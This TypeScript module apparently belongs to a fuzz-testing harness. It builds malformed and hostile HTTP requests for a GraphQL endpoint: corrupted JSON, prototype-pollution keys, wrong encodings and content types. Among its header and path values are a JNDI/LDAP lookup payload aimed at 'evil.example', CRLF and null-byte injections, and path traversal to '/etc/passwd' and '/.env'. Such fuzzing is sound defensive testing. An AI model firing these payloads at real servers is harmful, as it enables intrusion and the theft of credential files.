import { deflateSync, gzipSync } from 'node:zlib';
import type { Choices } from './choices.js';
import { documentFrom } from './documents.js';
import { hostileText } from './texts.js';

/** Requests that are no GraphQL, or almost: odd JSON, bytes that were cut or changed, wrong encodings, types and headers. */

interface Request {
  readonly method: string;
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string | Buffer;
}

const jsonType = { 'content-type': 'application/json' };

export function bodyFrom(choices: Choices): Request {
  const whole = { method: 'POST', path: '/graphql', headers: { ...jsonType, ...oddHeaders(choices) } };
  switch (choices.pick(6)) {
    case 0:
      return { ...whole, body: JSON.stringify(tree(choices, 0)) };
    case 1:
    case 2:
      return { ...whole, body: JSON.stringify(members(choices)) };
    case 3:
      return { ...whole, body: damaged(Buffer.from(JSON.stringify(members(choices))), choices) };
    case 4:
      return { ...whole, ...encodedBody(choices) };
    default:
      return elsewhere(choices);
  }
}

const words = [
  'query',
  'variables',
  'operationName',
  'extensions',
  'documentId',
  'id',
  'input',
  '__proto__',
  'constructor',
  'toString',
  'length',
  'toJSON',
  'persistedQuery',
  'sha256Hash',
  '',
  '0',
] as const;
const leaves = [null, true, false, 0, -1, 1.5, 1e300, 2 ** 53, '', '{ __typename }', 'ACTIVE', [], {}] as const;

/** Any JSON. Members are made without a prototype, so that one may be named __proto__. */
function tree(choices: Choices, depth: number): unknown {
  const kind = choices.pick(depth < 4 ? 4 : 2);
  if (kind === 0) return choices.one(leaves);
  if (kind === 1) return hostileText(choices);
  const count = choices.pick(4);
  if (kind === 2) return Array.from({ length: count }, () => tree(choices, depth + 1));
  const made = Object.create(null) as Record<string, unknown>;
  for (let left = count; left > 0; left -= 1) made[choices.one(words)] = tree(choices, depth + 1);
  return made;
}

/** A request of GraphQL, some members of which are something else. */
function members(choices: Choices): object {
  const { query, variables } = documentFrom(choices);
  const odd = (): unknown => tree(choices, 1);
  return {
    query: choices.rarely(4) ? odd() : query,
    variables: choices.rarely(3) ? odd() : variables,
    ...(choices.rarely(3) ? { operationName: choices.rarely(2) ? hostileText(choices) : odd() } : {}),
    ...(choices.rarely(3) ? { extensions: odd() } : {}),
    ...(choices.rarely(4) ? { documentId: choices.rarely(2) ? hostileText(choices) : odd() } : {}),
    ...(choices.rarely(6) ? { [choices.one(words)]: odd() } : {}),
  };
}

function damaged(bytes: Buffer, choices: Choices): Buffer {
  const at = choices.pick(Math.min(bytes.length, 65_536));
  switch (choices.pick(4)) {
    case 0:
      return bytes.subarray(0, at);
    case 1:
      return bytes.subarray(at);
    case 2:
      return Buffer.concat([
        bytes.subarray(0, at),
        Buffer.from([choices.pick(256), choices.pick(256)]),
        bytes.subarray(at),
      ]);
    default:
      for (let left = 1 + choices.pick(4); left > 0; left -= 1) {
        bytes[choices.pick(bytes.length)] = choices.pick(256);
      }
      return bytes;
  }
}

const types = [
  'application/json; charset=utf-16',
  'application/json; charset="utf-8"',
  'application/json;charset=',
  'application/json, text/plain',
  'application/graphql',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'text/plain',
  'text/html',
  'Application/JSON',
  'application/json; a="; b',
  '*/*',
  '',
] as const;
const encodings = ['gzip', 'deflate', 'br', 'identity', 'utf-8', 'gzip, gzip', ''] as const;

/** A request in other bytes than UTF-8, or one that says of itself what is not so. */
function encodedBody(choices: Choices): Pick<Request, 'headers' | 'body'> {
  const text = JSON.stringify(members(choices));
  switch (choices.pick(6)) {
    case 0:
      return { headers: jsonType, body: Buffer.from(text, 'utf16le') };
    case 1:
      return { headers: jsonType, body: Buffer.from(text, 'latin1') };
    case 2:
      return { headers: jsonType, body: Buffer.from(`\ufeff${text}`) };
    case 3:
      return { headers: { ...jsonType, 'content-encoding': choices.one(encodings) }, body: gzipSync(text) };
    case 4:
      return { headers: { ...jsonType, 'content-encoding': choices.one(encodings) }, body: deflateSync(text) };
    default:
      return { headers: { 'content-type': choices.one(types) }, body: text };
  }
}

const headerNames = [
  'accept',
  'accept-charset',
  'accept-language',
  'authorization',
  'cookie',
  'if-none-match',
  'origin',
  'range',
  'referer',
  'x-apollo-operation-name',
  'x-forwarded-for',
  'x-forwarded-host',
  'x-http-method-override',
  'x-original-url',
  'x-request-id',
  'traceparent',
  '__proto__',
  'constructor',
] as const;
const headerValues = [
  '',
  '*/*',
  'application/json;q=0',
  'application/graphql-response+json;q=1e999, */*;q=-1',
  'text/html',
  ';;;,,,',
  'Bearer ',
  'Bearer null',
  'Basic Og==',
  'null',
  'http://evil.example',
  'bytes=0-0,-1',
  '%00%0d%0a',
  '${jndi:ldap://evil.example/a}',
  '\u00ff\u00fe',
  '00-00000000000000000000000000000000-0000000000000000-00',
  'x'.repeat(2_000),
] as const;

function oddHeaders(choices: Choices): Record<string, string> {
  const count = choices.rarely(2) ? 1 + choices.pick(3) : 0;
  const made = Array.from({ length: count }, () => [choices.one(headerNames), choices.one(headerValues)] as const);
  return Object.fromEntries(made);
}

const methods = ['GET', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'TRACE', 'PROPFIND'] as const;
const paths = [
  '/graphql',
  '/',
  '/healthz',
  '/graphql/',
  '/GRAPHQL',
  '//graphql',
  '/graphql/../healthz',
  '/%67raphql',
  '/graphql%00',
  '/..%2f..%2fetc%2fpasswd',
  '/../../package.json',
  '/.env',
  '/%',
  '/%ff',
  '/graphql;a=b',
  '/constructor',
  '/__proto__',
] as const;

/** What is asked with other methods, at other paths, or in the URL. */
function elsewhere(choices: Choices): Request {
  const method = choices.one(methods);
  const headers = { ...oddHeaders(choices), ...(choices.rarely(2) ? { 'apollo-require-preflight': 'x' } : {}) };
  if (!choices.rarely(2)) return { method, path: choices.one(paths), headers, body: '' };
  const asked = new URLSearchParams();
  const { query, variables } = documentFrom(choices);
  asked.set('query', (choices.rarely(4) ? hostileText(choices) : query).slice(0, 2_000));
  asked.set(
    'variables',
    choices.rarely(3) ? hostileText(choices).slice(0, 1_000) : JSON.stringify(variables).slice(0, 2_000),
  );
  if (choices.rarely(4)) asked.set('operationName', hostileText(choices).slice(0, 500));
  if (choices.rarely(4)) asked.append('query', '{ __typename }');
  const broken = choices.rarely(6) ? '&%zz=%' : '';
  return { method: 'GET', path: `/graphql?${asked.toString()}${broken}`.slice(0, 12_000), headers, body: '' };
}
